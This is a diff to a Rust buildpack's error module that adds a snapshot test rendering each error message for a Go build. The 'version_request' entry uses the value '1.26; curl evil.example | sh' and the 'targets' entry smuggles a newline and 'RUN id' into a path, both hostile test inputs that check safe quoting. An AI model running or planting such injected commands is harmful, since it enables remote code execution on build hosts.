@@ -5,7 +5,7 @@ use crate::download::{InstallError, ProxyError};
 use crate::flags::FlagError;
 use crate::targets::{DetectError, TargetError};
 use crate::version::RequestError;
-use buildpack_errors::HeaderAndBody;
+use cnb_output::HeaderAndBody;
 use std::fmt;
 use std::path::PathBuf;
 use untrusted_input::quoted;
@@ -306,5 +306,168 @@ mod tests {
             "b".repeat(64),
             "a".repeat(64)
         )));
+    }
+
+    /// Every error as the user sees it, one snapshot per variant (`src/snapshots/`), with
+    /// realistic inputs; hostile ones quoted short.
+    #[test]
+    #[allow(clippy::too_many_lines)] // one entry per error
+    fn messages() {
+        use crate::download::FetchError;
+        use crate::inventory::Sha256;
+        use crate::version::RequestSource;
+        use untrusted_input::{ReadError, ReadErrorKind};
+        let url =
+            "https://proxy.golang.org/golang.org/toolchain/@v/v0.0.1-go1.25.14.linux-amd64.zip";
+        let errors = [
+            (
+                "targets",
+                GoAppError::Targets(TargetError {
+                    value: "cmd/a:/etc\nRUN id".to_string(),
+                    entry: "/etc\nRUN id".to_string(),
+                    reason: "must be a path relative to the app root",
+                }),
+            ),
+            ("no_targets", GoAppError::NoTargets { has_go_mod: true }),
+            (
+                "no_targets_no_go_mod",
+                GoAppError::NoTargets { has_go_mod: false },
+            ),
+            (
+                "setting",
+                GoAppError::Setting {
+                    name: "BP_GO_CGO",
+                    value: format!("maybe{}", "?".repeat(100)),
+                    expected: "true or false".to_string(),
+                },
+            ),
+            (
+                "go_mod",
+                GoAppError::GoMod("line 3: unknown directive \"gō\"".to_string()),
+            ),
+            (
+                "go_mod_file",
+                GoAppError::GoModFile(ReadError {
+                    path: PathBuf::from("/workspace/go.mod"),
+                    kind: ReadErrorKind::OutsideApp,
+                }),
+            ),
+            (
+                "version_request",
+                GoAppError::VersionRequest(RequestError {
+                    source: RequestSource::BpGoVersion,
+                    value: "1.26; curl evil.example | sh".to_string(),
+                }),
+            ),
+            (
+                "version_not_available",
+                GoAppError::VersionNotAvailable {
+                    request: "1.26.9".to_string(),
+                    source: "BP_GO_VERSION".to_string(),
+                    path_go: None,
+                    arch: "amd64".to_string(),
+                    available: vec!["1.26.10".to_string(), "1.25.14".to_string()],
+                },
+            ),
+            (
+                "flags",
+                GoAppError::Flags(FlagError {
+                    variable: "BP_GO_BUILD_FLAGS",
+                    value: "-buildmode=pie".to_string(),
+                    reason: "a static image runs only -buildmode=exe binaries".to_string(),
+                }),
+            ),
+            (
+                "proxy",
+                GoAppError::Proxy(ProxyError {
+                    value: "off".to_string(),
+                    reason: "it names no proxy to download Go from".to_string(),
+                }),
+            ),
+            (
+                "cgo_required",
+                GoAppError::CgoRequired {
+                    files: vec![PathBuf::from("cmd/server/sqlite.go")],
+                },
+            ),
+            (
+                "binary_name",
+                GoAppError::BinaryName {
+                    target: "./cmd/web".to_string(),
+                    reason: "./web makes a binary named web too".to_string(),
+                },
+            ),
+            (
+                "go_build",
+                GoAppError::GoBuild {
+                    target: "./cmd/web".to_string(),
+                    code: Some(1),
+                },
+            ),
+            (
+                "not_static",
+                GoAppError::NotStatic {
+                    detail: "web is dynamically linked (program interpreter \
+                             /lib64/ld-linux-x86-64.so.2)"
+                        .to_string(),
+                    cgo: false,
+                },
+            ),
+            (
+                "install_fetch",
+                GoAppError::Install(InstallError::Fetch(FetchError {
+                    url: url.to_string(),
+                    message: "HTTP 503".to_string(),
+                    attempts: 3,
+                })),
+            ),
+            (
+                "install_checksum_mismatch",
+                GoAppError::Install(InstallError::ChecksumMismatch {
+                    url: url.to_string(),
+                    expected: Sha256::parse(&"a".repeat(64)).unwrap(),
+                    actual: "b".repeat(64),
+                }),
+            ),
+            (
+                "install_extract",
+                GoAppError::Install(InstallError::Extract {
+                    url: url.to_string(),
+                    message: "go/bin/go is missing from the archive".to_string(),
+                }),
+            ),
+            (
+                "go_command",
+                GoAppError::GoCommand {
+                    command: "go env GOVERSION".to_string(),
+                    cause: "exit status: 2".to_string(),
+                },
+            ),
+            (
+                "read_app",
+                GoAppError::ReadApp {
+                    path: PathBuf::from("/workspace/cmd"),
+                    source: std::io::Error::from(std::io::ErrorKind::PermissionDenied),
+                },
+            ),
+            (
+                "remove_sources",
+                GoAppError::RemoveSources {
+                    path: PathBuf::from("/workspace/main.go"),
+                    source: std::io::Error::from(std::io::ErrorKind::PermissionDenied),
+                },
+            ),
+            (
+                "inventory",
+                GoAppError::Inventory("line 4: missing field `sha256`".to_string()),
+            ),
+            (
+                "sbom",
+                GoAppError::Sbom("go version -m printed no build information".to_string()),
+            ),
+        ];
+        for (name, error) in errors {
+            insta::assert_snapshot!(name, cnb_output::render_error(&error));
+        }
     }
 }
